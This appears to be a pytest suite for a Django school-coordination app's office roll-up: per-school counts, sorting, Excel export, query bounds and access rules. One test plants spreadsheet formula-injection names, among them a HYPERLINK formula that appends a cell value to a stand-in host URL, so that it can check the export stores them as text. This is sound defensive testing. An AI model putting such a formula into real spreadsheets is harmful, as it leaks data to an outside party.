"""The office roll-up: exact figures per school, a fixed number of queries, office staff only."""

import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from phoihop.documents.models import Document
from phoihop.reviews import rollup as rollups
from phoihop.reviews.cascade import cascade_document, target_units
from phoihop.schedule.models import Activity
from phoihop.tracking.services import record_activity
from phoihop.tracking.targets import record_measurement
from phoihop.units.models import Unit
from tests import factories as f

TODAY = dt.date(2025, 11, 1)


@pytest.fixture
def province(world):
    """School A records its work, school B does nothing; both work by their (in force) plans."""
    a, b = world.a, world.b
    Document.objects.filter(pk__in=[a.document.pk, b.document.pk]).update(status="in_force")
    record_activity(a.activity, a.leader, done_on=dt.date(2025, 10, 14), participants="BCH CĐ")
    visit_item = f.ItemFactory(
        document=a.document, position=3, text="GVCN thăm gia đình học sinh mỗi tháng."
    )
    visit = f.ActivityFactory(
        item=visit_item, school_class=a.school_class, obligations=2, due_on=dt.date(2025, 10, 31)
    )
    record_activity(visit, a.homeroom, done_on=dt.date(2025, 10, 20), student=a.student)
    f.ActivityFactory(item=visit_item, status=Activity.Status.CANCELLED, obligations=5)
    met = f.TargetFactory(document=a.document, text="Học sinh lên lớp", comparator=">=", value=90)
    unmet = f.TargetFactory(document=a.document, text="Duy trì sĩ số", comparator="=", value=100)
    f.TargetFactory(document=a.document, text="Chưa đo", comparator=">=", value=50)
    record_measurement(met, value=Decimal("95"), measured_on=dt.date(2025, 10, 1))
    record_measurement(unmet, value=Decimal("98.5"), measured_on=dt.date(2025, 10, 30))
    # A cascaded draft adds a plan (and targets) to each school: drafts do not count yet.
    office_plan = f.DocumentFactory(unit=world.office, title="KẾ HOẠCH Phối hợp toàn ngành")
    f.TargetFactory(document=office_plan, comparator=">=", value=80)
    f.ItemFactory(document=office_plan, text="Các trường tổ chức Hội nghị viên chức.")
    cascade_document(office_plan, target_units(world.office, level=Unit.Level.THCS))
    return world


def _row(data, unit):
    return next(r for r in data.rows if r.unit_id == unit.pk)


def test_rollup_counts_each_school_exactly(province):
    data = rollups.rollup(province.office, TODAY)
    a, b = _row(data, province.a.unit), _row(data, province.b.unit)
    assert (a.total, a.done, a.overdue, a.completion) == (3, 1, 1, 33.3)
    assert (a.targets, a.targets_met) == (3, 1)
    assert (a.visits_due, a.visits_done, a.coverage) == (2, 1, 50.0)
    assert (b.total, b.done, b.overdue, b.completion) == (2, 0, 2, 0.0)
    assert (b.targets, b.targets_met, b.visits_due, b.coverage) == (0, 0, 0, None)
    assert (data.totals.total, data.totals.done, data.totals.overdue) == (5, 1, 3)
    assert [r.name for r in data.rows] == ["Trường A", "Trường B"]


def test_rollup_sorts_and_filters(province):
    data = rollups.rollup(province.office, TODAY, sort="-overdue")
    assert [r.name for r in data.rows] == ["Trường B", "Trường A"]
    data = rollups.rollup(province.office, TODAY, sort="-coverage")
    assert [r.name for r in data.rows] == ["Trường A", "Trường B"]  # no coverage sorts last
    assert [r.name for r in rollups.rollup(province.office, TODAY, name="b").rows] == ["Trường B"]
    assert rollups.rollup(province.office, TODAY, level=Unit.Level.THPT).rows == []


def test_rollup_page_shows_the_figures_and_exports_them(province, login):
    client = login(province.officer)
    url = reverse("reviews:rollup", args=[province.office.pk])
    response = client.get(url, {"sort": "-done"})
    assert response.status_code == 200
    page = response.content.decode()
    assert "Trường A" in page and "Trường B" in page
    assert reverse("units:unit-detail", args=[province.a.unit.pk]) in page
    export = client.get(reverse("reviews:rollup-export", args=[province.office.pk]))
    assert export.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(export.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[1][0] == "Đơn vị"
    school_a = next(r for r in rows if r[0] == "Trường A")
    assert school_a[3:6] == (3, 1, 1)


FORMULAS = ('=HYPERLINK("http://x.example/?"&B3,"Xem")', "+1+1", "-2+3", "@SUM(1)")


def _cells_as_text(workbook_bytes: bytes) -> dict:
    """Every cell value of the first sheet with its stored type, and whether any is a formula."""
    import zipfile

    archive = zipfile.ZipFile(io.BytesIO(workbook_bytes))
    assert not any(b"<f>" in archive.read(n) for n in archive.namelist() if "worksheets" in n)
    sheet = openpyxl.load_workbook(io.BytesIO(workbook_bytes)).worksheets[0]
    return {c.value: c.data_type for row in sheet.iter_rows() for c in row if c.value is not None}


def test_rollup_export_writes_school_names_as_text_not_formulas(province, login):
    Unit.objects.filter(pk=province.a.unit.pk).update(name=FORMULAS[0])
    Unit.objects.filter(pk=province.b.unit.pk).update(name=FORMULAS[1])
    f.UnitFactory(parent=province.office, name=FORMULAS[2])
    f.UnitFactory(parent=province.office, name=FORMULAS[3] + "\x0b")
    export = login(province.officer).get(
        reverse("reviews:rollup-export", args=[province.office.pk])
    )
    cells = _cells_as_text(export.content)
    for name in FORMULAS:
        assert cells.get(name) == "s", (name, cells.get(name))


def test_rollup_query_count_does_not_grow_with_schools(province):
    def count_queries():
        with CaptureQueriesContext(connection) as queries:
            rollups.rollup(province.office, TODAY)
        return len(queries)

    before = count_queries()
    for n in range(4):
        school = f.UnitFactory(parent=province.office, name=f"Trường thêm {n}")
        item = f.ItemFactory(document=f.DocumentFactory(unit=school, status="in_force"))
        f.ActivityFactory(item=item)
        f.TargetFactory(document=item.document)
    assert count_queries() == before <= 4
    assert len(rollups.rollup(province.office, TODAY).rows) == 6


def test_rollup_page_query_count_is_bounded(province, login):
    client = login(province.officer)
    url = reverse("reviews:rollup", args=[province.office.pk])
    with CaptureQueriesContext(connection) as few:
        client.get(url)
    for n in range(3):
        school = f.UnitFactory(parent=province.office, name=f"Trường thêm {n}")
        f.ActivityFactory(item=f.ItemFactory(document=f.DocumentFactory(unit=school)))
    with CaptureQueriesContext(connection) as many:
        client.get(url)
    assert len(many) == len(few)


@pytest.mark.parametrize("who", ["school_leader", "other_school_leader", "sibling", "homeroom"])
def test_only_office_staff_see_the_rollup(province, sibling_officer, login, who):
    user = {
        "school_leader": province.a.leader,
        "other_school_leader": province.b.leader,
        "sibling": sibling_officer,
        "homeroom": province.a.homeroom,
    }[who]
    client = login(user)
    for name in ("reviews:rollup", "reviews:rollup-export"):
        assert client.get(reverse(name, args=[province.office.pk])).status_code == 404


def test_rollup_page_shows_a_page_of_schools_with_totals_over_all(province, login, monkeypatch):
    from phoihop.reviews import views

    monkeypatch.setattr(views, "ROLLUP_PAGE_SIZE", 1)
    client = login(province.officer)
    url = reverse("reviews:rollup", args=[province.office.pk])
    first = client.get(url, {"sort": "-done"}).content.decode()
    second = client.get(url, {"sort": "-done", "page": "2"}).content.decode()
    a, b = province.a.unit.name, province.b.unit.name
    assert f">{a}</a>" in first and f">{b}</a>" not in first  # school A has done more
    assert f">{b}</a>" in second and f">{a}</a>" not in second
    assert "Trang 1/2 · 2 đơn vị" in first
    assert "sort=-done&amp;page=2" in first  # the next page keeps the order
    # The totals row counts both schools on every page.
    data = rollups.rollup(province.office, timezone.localdate())
    for page in (first, second):
        assert f'<td class="num">{data.totals.total}</td>' in page


def test_schools_under_a_phong_name_it_and_lead_to_its_rollup(province, login):
    phong = f.UnitFactory(parent=province.office, level=Unit.Level.PHONG, name="Phòng GD&ĐT Bắc")
    school = f.UnitFactory(parent=phong, name="Trường C")
    data = rollups.rollup(province.office, TODAY, sort="parent")
    assert [r.name for r in data.rows] == ["Trường C", "Trường A", "Trường B"]
    c = _row(data, school)
    assert (c.parent_id, c.parent) == (phong.pk, "Phòng GD&ĐT Bắc")
    assert _row(data, province.a.unit).parent == ""  # directly under the office
    # Within the Phòng's own roll-up the school is directly under it.
    assert _row(rollups.rollup(phong, TODAY), school).parent_id is None
    client = login(province.officer)
    page = client.get(reverse("reviews:rollup", args=[province.office.pk])).content.decode()
    link = reverse("reviews:rollup", args=[phong.pk])
    assert f'<a href="{link}">Phòng GD&amp;ĐT Bắc</a>' in page
    assert client.get(link).status_code == 200
    assert login(province.a.leader).get(link).status_code == 404


def test_rollup_page_groups_thousands_the_vietnamese_way(province, login):
    from phoihop.web.templatetags.phoihop import grouped

    school = province.b
    Activity.objects.bulk_create(
        Activity(
            item=school.union_item,
            unit=school.unit,
            key=f"many-{n}",
            title="Hoạt động",
            window_starts_on=TODAY,
            window_ends_on=TODAY,
            due_on=TODAY,
        )
        for n in range(1200)
    )
    client = login(province.officer)
    page = client.get(reverse("reviews:rollup", args=[province.office.pk])).content.decode()
    total = _row(rollups.rollup(province.office, timezone.localdate()), school.unit).total
    assert total > 1000
    assert f">{total // 1000}.{total % 1000:03d}<" in page
    assert grouped(63.2) == "63,2" and grouped(None) is None


def test_schools_sort_by_their_number_and_the_vietnamese_alphabet():
    from phoihop.reviews.rollup import Row, sort_rows

    names = ["Trường THCS số 17", "Trường THCS Đông Hà", "Trường THCS số 2", "Trường THCS Dương Xá"]
    rows = [Row(unit_id=i, name=n, level="thcs", level_label="THCS") for i, n in enumerate(names)]
    assert [r.name for r in sort_rows(rows, "name")] == [
        "Trường THCS Dương Xá",
        "Trường THCS Đông Hà",
        "Trường THCS số 2",
        "Trường THCS số 17",
    ]
    assert [r.name for r in sort_rows(rows, "-name")][0] == "Trường THCS số 17"
